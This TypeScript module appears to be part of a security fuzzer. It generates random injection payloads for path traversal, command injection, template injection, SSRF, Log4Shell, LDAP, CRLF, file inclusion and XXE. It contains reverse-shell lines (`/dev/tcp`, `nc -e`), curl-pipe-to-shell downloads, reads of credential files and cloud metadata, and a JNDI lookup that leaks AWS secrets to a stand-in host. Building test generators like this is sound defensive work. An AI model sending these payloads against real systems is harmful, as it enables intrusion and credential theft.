import type { Random } from '../../random.ts';

type Grammar = (random: Random) => string;

const file: Grammar = (r) =>
  r.pick([
    'etc/passwd',
    'etc/shadow',
    'proc/self/environ',
    'var/log/nginx/access.log',
    'root/.ssh/id_rsa',
    'windows/win.ini',
    'boot.ini',
    'WEB-INF/web.xml',
    'app/.env',
    'etc/nginx/nginx.conf',
    'windows/system32/drivers/etc/hosts',
    'home/www/.aws/credentials',
  ]);
const command: Grammar = (r) =>
  r.pick([
    'id',
    'whoami',
    'cat /etc/passwd',
    'uname -a',
    `wget http://${r.text(6)}.example/x.sh -O /tmp/x`,
    `curl ${r.text(6)}.example|sh`,
    'ls -la /',
    `ping -c ${r.int(1, 9)} 127.0.0.1`,
    `nslookup ${r.text(8)}.example`,
    'sleep 5',
    'type C:\\Windows\\win.ini',
    'net user',
    'powershell -enc SQBFAFgA',
    `bash -i >& /dev/tcp/203.0.113.${r.int(1, 254)}/4444 0>&1`,
    'nc -e /bin/sh 203.0.113.9 9001',
    'echo $((41+1))',
    '/???/c?t /???/p?ss??',
    "c''at /e''tc/pas''swd",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
    'cat${IFS}/etc/passwd',
  ]);
const inner: Grammar = (r) =>
  r.pick([
    '127.0.0.1',
    'localhost',
    '[::1]',
    '0.0.0.0',
    '2130706433',
    '0x7f000001',
    '169.254.169.254',
    'metadata.google.internal',
    `10.0.${r.int(0, 9)}.${r.int(1, 254)}`,
    '127.1',
    'localtest.me',
    '192.168.1.1',
  ]);

/** Injections into something else than SQL or HTML. */
export const OTHER_KINDS = {
  traversal: (r) => {
    const up = r
      .pick(['../', '../', '..\\', '..%2f', '%2e%2e/', '....//', '..%5c', '..;/', '%252e%252e%252f', '..%c0%af'])
      .repeat(r.int(2, 9));
    return `${r.pick(['', '', '/', 'invoice/', './', 'file:///'])}${up}${file(r)}${r.pick(['', '', '%00', '%00.pdf', '.pdf', '?'])}`;
  },
  command: (r) =>
    `${r.pick(['', '127.0.0.1', r.text(4), '1'])}${r.pick([`;${command(r)}`, `| ${command(r)}`, `&& ${command(r)}`, `\`${command(r)}\``, `$(${command(r)})`, `|| ${command(r)}`, `\n${command(r)}`, `& ${command(r)} &`, `';${command(r)};'`, `"|${command(r)}`])}`,
  template: (r) =>
    r.pick([
      `{{${r.int(2, 99)}*${r.int(2, 99)}}}`,
      `\${${r.int(2, 99)}*${r.int(2, 99)}}`,
      `<%= ${r.int(2, 99)}*${r.int(2, 99)} %>`,
      '#{7*7}',
      "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
      '${T(java.lang.Runtime).getRuntime().exec("id")}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '{php}echo `id`;{/php}',
      '*{7*7}',
      "{{request|attr('application')}}",
      '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}',
      "%{(#a='x').(#b=@java.lang.Runtime@getRuntime().exec('id'))}",
      '@(1+2)',
    ]),
  ssrf: (r) =>
    `${r.pick(['http', 'http', 'https', 'gopher', 'dict', 'ftp', 'file'])}://${r.pick(['', '', 'shop.example@', 'a:b@'])}${inner(r)}${r.pick(['', ':22', ':6379', ':8080', ':9200', ':2375'])}/${r.pick(['', 'latest/meta-data/iam/security-credentials/', 'computeMetadata/v1/', 'admin', '_cat/indices', 'server-status', 'v1.24/containers/json', '_SET%20x%201'])}`,
  log4j: (r) =>
    r.pick([
      `\${jndi:ldap://${r.text(7)}.example/a}`,
      `\${jndi:rmi://203.0.113.${r.int(1, 254)}:1099/x}`,
      `\${\${lower:j}ndi:\${lower:l}dap://${r.text(6)}.example/a}`,
      `\${\${::-j}\${::-n}\${::-d}\${::-i}:dns://${r.text(6)}.example}`,
      `\${jndi:ldap://127.0.0.1#${r.text(6)}.example/a}`,
      `\${\${env:NaN:-j}ndi\${env:NaN:-:}ldap://${r.text(5)}.example/\${env:AWS_SECRET_ACCESS_KEY}}`,
    ]),
  ldap: (r) =>
    r.pick([
      '*)(uid=*))(|(uid=*',
      '*)(|(objectClass=*)',
      'admin)(&(password=*))',
      `*)(cn=${r.text(2)}*`,
      '*))%00',
      'x)(|(password=*)',
      "*()|&'",
    ]),
  crlf: (r) =>
    `${r.text(4)}${r.pick(['\r\n', '\n', '%0d%0a', '\r\n\r\n'])}${r.pick([`Set-Cookie: admin=${r.text(4)}`, `Location: https://${r.text(6)}.example/`, 'X-Injected: 1', 'Content-Length: 0\r\n\r\nHTTP/1.1 200 OK', '127.0.0.1 - admin "GET / HTTP/1.1" 200'])}`,
  include: (r) =>
    r.pick([
      `http://${r.text(6)}.example/shell.txt?`,
      'php://filter/convert.base64-encode/resource=index.php',
      'php://input',
      `data://text/plain;base64,${Buffer.from('<?php system("id");?>').toString('base64')}`,
      'expect://id',
      'phar://upload.jpg/a',
      'zip://a.zip#x.php',
      '/proc/self/fd/3',
    ]),
} as const satisfies Record<string, Grammar>;

export type OtherKind = keyof typeof OTHER_KINDS;

/** XML with an external entity, for a route that takes a body. */
export function externalEntity(r: Random): string {
  const name = r.text(3, 'abcdefgh');
  const target = r.pick([
    'file:///etc/passwd',
    `http://${inner(r)}/`,
    `http://${r.text(6)}.example/x.dtd`,
    'php://filter/read=convert.base64-encode/resource=/etc/hosts',
    'file:///c:/windows/win.ini',
  ]);
  return r.pick([
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY ${name} SYSTEM "${target}">]><r>&${name};</r>`,
    `<!DOCTYPE r [<!ENTITY % ${name} SYSTEM "${target}"> %${name};]><order><id>1</id></order>`,
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><lolz>&c;</lolz>`,
    `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></x>`,
  ]);
}
